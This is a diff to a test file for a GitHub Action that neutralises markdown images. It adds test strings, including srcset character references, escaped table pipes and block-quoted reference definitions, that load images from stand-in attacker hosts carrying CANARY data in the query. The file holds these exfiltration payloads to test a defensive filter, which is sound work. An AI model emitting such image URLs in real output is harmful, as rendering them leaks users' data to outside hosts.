@@ -63,6 +63,9 @@ const ADVERSARIAL: Record<string, string> = {
   'path climbing out of the repository': `![x](https://github.com/octo/demo/../../attacker/evil.png?d=CANARY)`,
   'a repository whose name starts like this one': `![x](https://github.com/octo/demo-evil/raw/main/x.png?d=CANARY)`,
   'http, not https': `![x](http://github.com/user-attachments/assets/CANARY)`,
+  'srcset with character references': `<picture><source srcset="&#x68;ttps://attacker.example/s.png?d=CANARY 2x"><img src="${ATTACHMENT}"></picture>`,
+  'image in a table cell with an escaped pipe': `| a |\n|---|\n| ![x](https://attacker.example/a\\|b?d=CANARY) |`,
+  'definition inside a block quote, image outside': `> [r]: ${ATTACK}\n\n![x][r]`,
   'a data: URL': `![x](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='https://evil.example/'/%3E%3C/svg%3E)`,
 };
 
@@ -98,6 +101,14 @@ describe('the GitHub Action: images in what it posts', () => {
       expect(out).toContain('attacker.example');
     });
   }
+
+  it('does not render a reference image when a label like its own (another case folding) names an off-list URL', () => {
+    // micromark picks the allowed definition; a renderer folding the fullwidth Ｒ to r would pick the other.
+    const out = neutraliseImages(`![x][Ｒef]\n\n[Ｒef]: ${ATTACHMENT}\n[ref]: ${ATTACK}`, allows);
+    expect(out).toContain(`(image not shown, its URL is not on the allow list: \`${ATTACK}\`)`);
+    expect(renderedLoads(out)).toEqual([]);
+    expect(neutraliseImages(`![x][Ｒef]\n\n[Ｒef]: ${ATTACHMENT}\n[other]: ${ATTACK}`, allows)).toBe(`![x][Ｒef]\n\n[Ｒef]: ${ATTACHMENT}\n[other]: ${ATTACK}`);
+  });
 
   it('escapes the ! of an image syntax no parse read as an image, so another parser could at most make it a link', () => {
     // Not an image for micromark (a space in an unbracketed destination): `\!` keeps it so for every parser.
